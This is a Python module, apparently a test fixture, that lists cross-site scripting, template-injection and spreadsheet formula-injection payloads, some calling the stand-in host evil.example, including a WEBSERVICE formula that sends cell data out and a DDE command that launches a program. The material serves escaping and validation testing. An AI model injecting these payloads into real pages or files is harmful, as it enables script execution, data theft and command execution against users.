"""Texts that run as scripts, or as formulas, wherever somebody forgets to write them as text."""

_RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img/src='x'/onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>x</button></form>",
)
# What somebody may have to break out of first.
_OUT_OF = ("", '">', "'-->", "</title></textarea></style></script>")
_ELSE = (
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)",
    "`${alert(1)}`",
    "{{7*7}}{{config}}{{''.__class__.__mro__}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "%(name)s %s {0} ${x} #{7*7} <%= 7*7 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</script><!--<script>",
    "\u2028alert(1)\u2029",
    "＜script＞alert(1)＜/script＞",
)
PAYLOADS = tuple(out + run for out in _OUT_OF for run in _RUNS) + _ELSE

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    " =1+1",
    "'=1+1",
    "\u202e=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2066=1+1",
    '=HYPERLINK("http://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '";=1+1;"',
    "x\n=1+1",
)


def all_from(number: int) -> str:
    """Return all payloads in one text, beginning with another one each time."""
    start = number % len(PAYLOADS)
    return " ".join(PAYLOADS[start:] + PAYLOADS[:start]) + f" {number}"
